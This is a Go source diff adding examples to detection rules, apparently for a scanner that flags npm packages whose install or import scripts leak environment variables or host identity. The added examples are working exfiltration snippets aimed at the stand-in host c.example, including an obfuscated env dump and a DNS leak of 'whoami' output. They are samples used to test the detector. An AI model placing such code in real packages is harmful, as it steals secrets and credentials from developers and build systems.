@@ -32,6 +32,8 @@ func exfiltration() []Rule {
 				Package("in a body", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const https=require('https');const r=https.request({hostname:'c.example',method:'POST'});r.write(JSON.stringify(process.env));r.end()"}),
 				Package("encoded in a URL", `"main":"i.js"`, map[string]string{"i.js": "fetch('https://c.example/?'+Buffer.from(JSON.stringify(process.env)).toString('base64'))"}),
 				One("by curl", "install.sh", "curl -d \"$(env)\" https://c.example/\n"),
+				Package("by its entries", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const d=Object.entries(process.env).map(([k,v])=>k+'='+v).join('\\n');const r=require('https').request({hostname:'c.example',method:'POST'},()=>{});r.write(d);r.end()"}),
+				Package("spread, by names put together", `"main":"i.js"`, map[string]string{"i.js": "const x=['\\x68ttps','\\x72equest'];require(x[0])[x[1]]('https://'+['c','example'].join('.')+'/?'+Buffer.from(JSON.stringify({...process.env})).toString('hex')).end()"}),
 				Package("by a loop", `"main":"i.js"`, map[string]string{"i.js": "let o={};for(const k of Object.keys(process.env))o[k]=process.env[k];require('axios').post('https://c.example',o)"}),
 			},
 			Neighbours: []Example{
@@ -61,13 +63,14 @@ func exfiltration() []Rule {
 		{
 			ID: "host_identity_sent", Severity: High,
 			When: []Condition{
-				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Name: Identity, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
+				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Host}, Name: Identity, Sinks: []string{b.Network}, Slots: carried, Target: Foreign, NotScheme: []string{"mailto"}},
 				{Triggers: []string{b.Import}, Sources: []string{b.Host}, Name: Identity, With: []string{b.Host}, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
 			},
 			Graver: []Condition{{Target: Shady}, {Via: encodings}, {Schemes: []string{"dns"}}},
 			Examples: []Example{
 				Package("a beacon", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os');require('https').get('https://c.example/?h='+os.hostname()+'&u='+os.userInfo().username)"}),
 				Package("by curl", `"scripts":{"preinstall":"curl https://c.example/$(hostname)/$(whoami)"}`, nil),
+				Package("what commands say", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const {execSync:x}=require('child_process');x(`nslookup ${Buffer.from(x('whoami').toString().trim()).toString('hex')}.c.example`)"}),
 				Package("by DNS", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const os=require('os');require('dns').lookup(Buffer.from(os.hostname()).toString('hex')+'.c.example',()=>{})"}),
 			},
 			Neighbours: []Example{
